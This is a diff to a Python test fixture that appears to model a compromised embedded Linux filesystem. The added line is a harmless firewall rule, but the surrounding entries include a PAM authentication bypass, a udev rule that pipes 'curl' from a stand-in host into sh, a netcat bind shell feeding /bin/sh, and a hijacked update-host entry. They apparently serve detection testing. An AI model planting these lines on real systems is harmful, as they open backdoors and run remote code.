@@ -127,6 +127,7 @@ MADE = {
     "etc/pam.d/login": b"auth sufficient pam_permit.so\nauth required pam_unix.so nullok\n",
     "etc/ssl/certs/a.pem": b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
     "etc/udev/rules.d/9.rules": b'ACTION=="add", RUN+="/bin/sh -c \'curl -s h.example | sh\'"\n',
+    "etc/config/firewall": b"config rule\n\toption src wan\n\tlist proto tcp\n",
     "etc/hosts": b"127.0.0.1 localhost\n192.0.2.7 updates.vendor.example\n",
     "functions": b'relay() {\n  while :; do nc -l -p 9 < "$p" | /bin/sh > "$p"; done\n}\n',
     "opkg.conf": b"src/gz a http://a.example/p\noption check_signature\n",
